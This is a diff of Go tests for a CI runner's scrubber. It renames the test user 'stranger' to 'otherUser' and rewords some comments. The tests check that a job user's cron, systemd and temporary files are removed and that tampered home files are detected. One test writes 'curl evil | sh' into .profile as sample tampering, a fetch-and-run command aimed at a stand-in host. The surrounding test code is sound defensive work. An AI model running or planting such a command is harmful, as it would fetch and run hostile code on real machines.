@@ -17,11 +17,11 @@ import (
 	"github.com/remuda-run/remuda/agent"
 )
 
-// stranger is a user that has no process and no file on any machine of these tests, nor another run of them: all
+// otherUser is a user that has no process and no file on any machine of these tests, nor another run of them: all
 // of its processes are killed. The next uid is one that it may give away.
-var stranger = 54321_0000 + 4*(os.Getpid()%1_000_000)
+var otherUser = 54321_0000 + 4*(os.Getpid()%1_000_000)
 
-// place is an instance folder and a file system around it, in which jobs of stranger were.
+// place is an instance folder and a file system around it, in which jobs of otherUser were.
 func place(t *testing.T) (s Scrubber, put func(owner int, path, text string)) {
 	t.Helper()
 	if os.Getuid() != 0 {
@@ -39,36 +39,36 @@ func place(t *testing.T) (s Scrubber, put func(owner int, path, text string)) {
 		}
 	}
 	put(0, "tmp/instance/state", "x")
-	put(stranger, "tmp/instance/scratch/left", "x")
+	put(otherUser, "tmp/instance/scratch/left", "x")
 	return Scrubber{
 		InstanceID: t.Name() + "-none", Root: filepath.Join(top, "tmp/instance"), Empty: []string{"scratch"}, Clock: clock.RealClock{},
 		Levels: map[string]Level{"none": None, "full": Full, "once": Terminate},
-		User:   &User{UID: stranger, Name: "stranger", Home: "/people/stranger"}, System: top,
+		User:   &User{UID: otherUser, Name: "otherUser", Home: "/people/otherUser"}, System: top,
 	}, put
 }
 
 func exists(path string) bool { _, err := os.Lstat(path); return err == nil }
 
-// H42: what each level removes. Nothing of anybody else goes at any of them.
+// H42: what each level removes. Nothing of anyone else goes at any of them.
 func TestScrub_Levels_H42(t *testing.T) {
 	for class, want := range map[string]struct{ gone, err bool }{
 		"none": {}, "workspace": {}, "full": {gone: true}, "once": {err: true},
 	} {
 		t.Run(class, func(t *testing.T) {
 			s, put := place(t)
-			put(stranger, "people/stranger/.profile", "of the image")
+			put(otherUser, "people/otherUser/.profile", "of the image")
 			if err := s.TakeBaseline(t.Context()); err != nil {
 				t.Fatal(err)
 			}
 			theirs := []string{
-				"tmp/a", "var/tmp/b", "dev/shm/c", "var/spool/cron/crontabs/stranger", "var/spool/cron/atjobs/d", fmt.Sprintf("run/user/%d/e", stranger),
-				"people/stranger/.config/systemd/user/f.service", "tmp/roots-/g",
+				"tmp/a", "var/tmp/b", "dev/shm/c", "var/spool/cron/crontabs/otherUser", "var/spool/cron/atjobs/d", fmt.Sprintf("run/user/%d/e", otherUser),
+				"people/otherUser/.config/systemd/user/f.service", "tmp/roots-/g",
 			}
 			for _, path := range theirs {
-				put(stranger, path, "x")
+				put(otherUser, path, "x")
 			}
-			put(0, "var/lib/systemd/linger/stranger", "")
-			kept := []string{"tmp/roots-/keep", "var/spool/cron/crontabs/root", "etc/passwd", "people/stranger/.bashrc"}
+			put(0, "var/lib/systemd/linger/otherUser", "")
+			kept := []string{"tmp/roots-/keep", "var/spool/cron/crontabs/root", "etc/passwd", "people/otherUser/.bashrc"}
 			for _, path := range kept {
 				put(0, path, "x")
 			}
@@ -76,12 +76,12 @@ func TestScrub_Levels_H42(t *testing.T) {
 			if (err != nil) != want.err || errors.Is(err, agent.ErrUsedUp) != want.err {
 				t.Fatalf("Scrub = %v, want ErrUsedUp: %v", err, want.err)
 			}
-			for _, path := range append(theirs, "var/lib/systemd/linger/stranger") {
+			for _, path := range append(theirs, "var/lib/systemd/linger/otherUser") {
 				if exists(filepath.Join(s.System, path)) == want.gone {
 					t.Errorf("%s is there: %v, want %v", path, !want.gone, want.gone)
 				}
 			}
-			for _, path := range append(kept, "people/stranger/.profile", "tmp/instance/state") {
+			for _, path := range append(kept, "people/otherUser/.profile", "tmp/instance/state") {
 				if !exists(filepath.Join(s.System, path)) {
 					t.Errorf("%s is gone, and was not the run's", path)
 				}
@@ -94,26 +94,26 @@ func TestScrub_Levels_H42(t *testing.T) {
 }
 
 // H42: timed jobs go before any other file. A process of theirs that began while those are removed, wrote behind the
-// removal and ended would be seen by nobody.
+// removal and ended would be seen by no one.
 func TestScrub_TimedJobsFirst_H42(t *testing.T) {
 	s, put := place(t)
 	if err := s.TakeBaseline(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	put(stranger, "var/spool/cron/crontabs/stranger", "* * * * * x")
-	put(0, "var/lib/systemd/linger/stranger", "")
+	put(otherUser, "var/spool/cron/crontabs/otherUser", "* * * * * x")
+	put(0, "var/lib/systemd/linger/otherUser", "")
 	s.Empty = []string{"no\x00folder"} // ends the removal where it begins
 	if err := s.Scrub(t.Context(), "full"); !errors.Is(err, syscall.EINVAL) {
 		t.Fatalf("Scrub = %v, want that a folder cannot be emptied", err)
 	}
-	for _, path := range []string{"var/spool/cron/crontabs/stranger", "var/lib/systemd/linger/stranger"} {
+	for _, path := range []string{"var/spool/cron/crontabs/otherUser", "var/lib/systemd/linger/otherUser"} {
 		if exists(s.outside().path(path)) {
 			t.Errorf("%s is still there", path)
 		}
 	}
 }
 
-// H42: a file of root's that a job left in the home of its user, or where everybody may read it, does not
+// H42: a file of root's that a job left in the home of its user, or where everyone may read it, does not
 // reach the next run. What was there before stays, and what is private to a service does.
 func TestScrub_RootsFiles_H42(t *testing.T) {
 	s, put := place(t)
@@ -124,12 +124,12 @@ func TestScrub_RootsFiles_H42(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	put(stranger, "people/stranger/.profile", "of the image")
-	put(0, "people/stranger/.ssh/authorized_keys", "of the image")
+	put(otherUser, "people/otherUser/.profile", "of the image")
+	put(0, "people/otherUser/.ssh/authorized_keys", "of the image")
 	put(0, "var/tmp/cache", "of the image")
 	put(0, "tmp/socket", "of a service")
-	home := filepath.Join(s.System, "people/stranger")
-	if err := os.Lchown(home, stranger, stranger); err != nil {
+	home := filepath.Join(s.System, "people/otherUser")
+	if err := os.Lchown(home, otherUser, otherUser); err != nil {
 		t.Fatal(err)
 	}
 	before, err := s.outside().temporaryFiles()
@@ -142,10 +142,10 @@ func TestScrub_RootsFiles_H42(t *testing.T) {
 	}
 	was := Baseline{Home: files, Temporary: before}
 	gone := []string{
-		"people/stranger/.bashrc", "people/stranger/.ssh/rc", "people/stranger/.cache/deep/file", "tmp/build/deep/file", "tmp/file", "dev/shm/file",
+		"people/otherUser/.bashrc", "people/otherUser/.ssh/rc", "people/otherUser/.cache/deep/file", "tmp/build/deep/file", "tmp/file", "dev/shm/file",
 	}
 	kept := []string{
-		"people/stranger/.profile", "people/stranger/.ssh/authorized_keys", "var/tmp/cache", "tmp/socket", "tmp/private/file", "etc/passwd",
+		"people/otherUser/.profile", "people/otherUser/.ssh/authorized_keys", "var/tmp/cache", "tmp/socket", "tmp/private/file", "etc/passwd",
 		"tmp/instance/state",
 	}
 	for _, path := range append([]string{"tmp/private/file", "etc/passwd"}, gone...) {
@@ -170,7 +170,7 @@ func TestScrub_RootsFiles_H42(t *testing.T) {
 	if err := s.outside().removeUsers(was); err != nil || !exists(filepath.Join(s.System, "tmp/other")) {
 		t.Errorf("on a computer shared with others removeUsers = %v, and left tmp/other: %v", err, exists(filepath.Join(s.System, "tmp/other")))
 	}
-	put(0, "people/stranger/.ssh/authorized_keys", "of the job's")
+	put(0, "people/otherUser/.ssh/authorized_keys", "of the job's")
 	if err := s.outside().removeUsers(was); err == nil || !strings.Contains(err.Error(), "authorized_keys was changed") {
 		t.Errorf("removeUsers after a change of root's file = %v", err)
 	}
@@ -185,13 +185,13 @@ func TestScrub_BesideTheProgram_H42(t *testing.T) {
 			s.Program, s.Empty = "runner", append(s.Empty, "runner/_work")
 			put(0, "tmp/instance/runner/bin/Runner.Listener", "x")
 			put(0, "tmp/instance/runner/config.sh", "x")
-			put(stranger, "tmp/instance/runner/_work/left", "x")
+			put(otherUser, "tmp/instance/runner/_work/left", "x")
 			left := []string{".env", "left", "deep/left"}
 			for _, name := range left {
-				put(stranger, "tmp/instance/runner/"+name, "x")
+				put(otherUser, "tmp/instance/runner/"+name, "x")
 			}
 			for _, dir := range []string{"_work", "deep"} {
-				if err := os.Lchown(filepath.Join(s.Root, "runner", dir), stranger, stranger); err != nil {
+				if err := os.Lchown(filepath.Join(s.Root, "runner", dir), otherUser, otherUser); err != nil {
 					t.Fatal(err)
 				}
 			}
@@ -212,9 +212,9 @@ func TestScrub_BesideTheProgram_H42(t *testing.T) {
 	}
 }
 
-// H42: without a level in the configuration everything of a run goes where that can be told.
+// H42: without a level in the configuration everything of a run goes where that can be known.
 func TestScrub_DefaultLevel_H42(t *testing.T) {
-	user := &User{UID: stranger}
+	user := &User{UID: otherUser}
 	for _, tt := range []struct {
 		scrubber Scrubber
 		want     Level
@@ -234,15 +234,15 @@ func TestScrub_DefaultLevel_H42(t *testing.T) {
 // H42: a file of the image that a job changed cannot be restored, nor can the job hide it.
 func TestScrub_ChangedHome_NotClean_H42(t *testing.T) {
 	s, put := place(t)
-	put(stranger, "people/stranger/.profile", "of the image")
+	put(otherUser, "people/otherUser/.profile", "of the image")
 	if err := s.TakeBaseline(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	was, err := os.Stat(filepath.Join(s.System, "people/stranger/.profile"))
+	was, err := os.Stat(filepath.Join(s.System, "people/otherUser/.profile"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	profile := filepath.Join(s.System, "people/stranger/.profile")
+	profile := filepath.Join(s.System, "people/otherUser/.profile")
 	for _, text := range []string{"curl evil | sh", "by the image"} { // the second is as long as the first was
 		for changed := changedAt(was.Sys().(*syscall.Stat_t)); changed == changedAt(was.Sys().(*syscall.Stat_t)); { // the kernel's clock has ticks
 			if err := errors.Join(os.WriteFile(profile, []byte(text), 0o644), os.Chtimes(profile, was.ModTime(), was.ModTime())); err != nil {
